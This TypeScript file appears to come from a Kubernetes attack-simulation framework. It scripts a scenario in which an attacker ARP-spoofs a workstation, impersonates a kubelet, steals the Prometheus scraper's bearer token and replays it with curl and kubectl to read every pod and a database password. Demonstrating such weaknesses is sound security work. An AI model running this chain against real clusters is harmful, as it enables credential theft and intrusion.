import { Attacker } from '../../attacker/attacker';
import { neighbour } from '../../attacker/position';
import { KubeClient } from '../../client/kube-client';
import { addresses, ports } from '../addresses';
import { randomCanaries } from '../canaries';
import { prometheus } from '../conversations/scraper';
import { clientOn } from './client-on';
import { curl } from './curl';
import { playOf } from './play';
import { runPodWithPassword } from './pod-with-password';

const { namespace, name } = prometheus;

export const scraperToken = playOf({
  steps: [
    'admin: kubectl run db --env=PASSWORD=…',
    'attacker: arpspoof -t workstation 10.0.0.11',
    'attacker: answers the scrape of https://node-1:10250/metrics/resource',
    'attacker: curl -k -H "Authorization: Bearer …" https://node-2:10250/metrics/resource',
    'attacker: kubectl --token=… get pods -A -o yaml',
  ],
  async play(stage) {
    const cluster = await stage.cluster();
    const { attackerHost, workstation, credentials } = cluster;
    const { signal } = stage;
    const password = await runPodWithPassword(stage, cluster, 'node-2');
    const genuine = { address: addresses.node1, port: ports.kubelet };
    const position = neighbour(workstation, attackerHost, genuine.address);
    const { forged, tampered } = randomCanaries(stage.random);
    await using attack = await new Attacker({
      host: attackerHost,
      random: stage.random.for('attacker'),
    }).attack({
      technique: 'self-signed',
      targets: [genuine],
      position,
      present: null,
      mode: 'impersonate',
      forged,
      tampered,
    });
    await stage.did('attacker', `arpspoof -t ${workstation.name} ${genuine.address}`, position.describe());

    await using scraper = new KubeClient({
      from: workstation,
      server: { host: genuine.address, port: genuine.port },
      trust: cluster.clientTrust(genuine.address),
      token: await credentials.token(prometheus),
      userAgent: 'Prometheus/3.4.0',
    });
    const scraped = await scraper.request('GET', '/metrics/resource', { signal });
    await attack.withdraw();
    const token = attack.loot.credentials[0]?.value;
    const serve = 'answers the scrape of https://node-1:10250/metrics/resource';
    if (token === undefined) await stage.refused('attacker', serve, scraped.refusal?.text ?? scraped.words);
    else await stage.did('attacker', serve, `Authorization: Bearer ${token.slice(0, 24)}…`);

    const stolen = token === undefined ? {} : { token };
    const shown = token === undefined ? '' : ' -H "Authorization: Bearer …"';
    const other = `https://${addresses.node2}:${ports.kubelet}/metrics/resource`;
    const metrics = await curl(attackerHost, other, { ...stolen, signal });
    const used = metrics.body.split('\n').find((line) => /^pod_memory_working_set_bytes.*"db"/.test(line));
    const measure = `curl -k${shown} https://node-2:10250/metrics/resource`;
    if (used !== undefined)
      await stage.gained('attacker', measure, used, 'the metrics of a kubelet it never impersonated');
    else await stage.refused('attacker', measure, metrics.words);

    await using thief = clientOn(attackerHost, cluster, stolen);
    const pods = await thief.request('GET', '/api/v1/pods', { signal });
    const list = `kubectl${token === undefined ? '' : ' --token=…'} get pods -A -o yaml`;
    if (pods.body.includes(password)) {
      const { items } = pods.json() as { items: readonly unknown[] };
      const saw = `${items.length} pods; default/db has PASSWORD=${password}`;
      await stage.gained(
        'attacker',
        list,
        saw,
        `from the apiserver, as ${namespace}/${name}, every pod of the cluster`,
      );
    } else await stage.refused('attacker', list, pods.words);
  },
});
